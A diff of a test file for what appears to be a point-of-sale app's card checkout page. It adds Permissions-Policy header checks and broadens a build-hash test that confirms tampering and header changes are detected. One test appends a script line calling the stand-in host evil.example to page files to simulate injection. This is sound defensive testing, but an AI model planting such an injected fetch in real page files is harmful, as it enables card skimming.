@@ -1,11 +1,12 @@
 import { createHash } from 'node:crypto';
-import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { type Server, createServer } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { JUSTIFI_ORIGINS, checkoutPolicy } from '../../main/local-origin/checkout-policy.ts';
 import { CHECKOUT_INVENTORY, type PageRequest } from '../../main/local-origin/page-inventory.ts';
+import { PERMISSIONS_POLICY } from '../../main/local-origin/permissions-policy.ts';
 import { type PageWatch, openPageWatch } from '../../main/local-origin/page-watch.ts';
 import { type LocalOrigin, serveLocalOrigin } from '../../main/local-origin/server.ts';
 
@@ -38,7 +39,7 @@ function watch(page = local.origin): PageWatch {
   return openPageWatch({ rendererFolder: folder, built, origins: () => ({ page, ...JUSTIFI_ORIGINS }), policy, onFinding: (what) => told.push(what) });
 }
 
-/** Somebody else's server, which answers like ours but for what the test changes. */
+/** Another server, which answers like ours but for what the test changes. */
 async function standIn(change: (path: string, headers: Record<string, string>) => string | null): Promise<{ readonly origin: string; readonly server: Server }> {
   const server = createServer(({ url = '' }, response) => {
     const name = url === '/' ? 'index.html' : url.slice('/checkout/'.length);
@@ -48,6 +49,7 @@ async function standIn(change: (path: string, headers: Record<string, string>) =
       'Cross-Origin-Opener-Policy': 'same-origin',
       'X-Content-Type-Options': 'nosniff',
       'Referrer-Policy': 'no-referrer',
+      'Permissions-Policy': PERMISSIONS_POLICY,
       'Cache-Control': 'no-store',
     };
     const body = change(url, headers);
@@ -68,7 +70,7 @@ describe('S-05: the page that takes cards', () => {
     expect([page.changedFiles(), page.findings(), told]).toEqual([[], [], []]);
   });
 
-  test.each(FILES)('is noticed when somebody adds to %s or takes it away, and told once however often it is looked at', async (name) => {
+  test.each(FILES)('is noticed when %s is added to or removed, and reported once, however often it is checked', async (name) => {
     const page = watch();
     appendFileSync(join(folder, name), ';fetch("https://evil.example")');
     expect(page.changedFiles()).toEqual([name]);
@@ -98,6 +100,7 @@ describe('S-05: the page that takes cards', () => {
     ['Cross-Origin-Opener-Policy', () => null],
     ['X-Content-Type-Options', () => null],
     ['Referrer-Policy', () => 'unsafe-url'],
+    ['Permissions-Policy', () => 'camera=*'],
     ['Cache-Control', () => 'max-age=31536000'],
   ])('is noticed when its header %s changes', async (header, change) => {
     const other = await standIn((path, headers) => {
@@ -156,7 +159,9 @@ describe('S-05: what the page asks for', () => {
 
 test('S-05: the build writes down every file of every page, and main holds it', () => {
   const bundle = readFileSync(join(import.meta.dirname, '../../out/main/index.js'), 'utf8');
-  for (const name of ['till/index.html', 'till/till.js', 'till/till.css', 'checkout/index.html', 'checkout/checkout.js', 'checkout/checkout.css', 'display/index.html', 'display/display.js', 'display/display.css']) {
+  const names = ['till', 'checkout', 'display'].flatMap((page) => readdirSync(join(import.meta.dirname, '../../out/renderer', page)).map((file) => `${page}/${file}`));
+  expect(names).toEqual(expect.arrayContaining(['till/index.html', 'till/till.js', 'till/LaterScreen.js', 'till/till.css', 'checkout/index.html', 'checkout/checkout.js', 'checkout/checkout.css', 'display/index.html', 'display/display.js', 'display/display.css']));
+  for (const name of names) {
     const sum = createHash('sha256').update(readFileSync(join(import.meta.dirname, '../../out/renderer', name))).digest('base64');
     expect(bundle.includes(sum), name).toBe(true);
   }
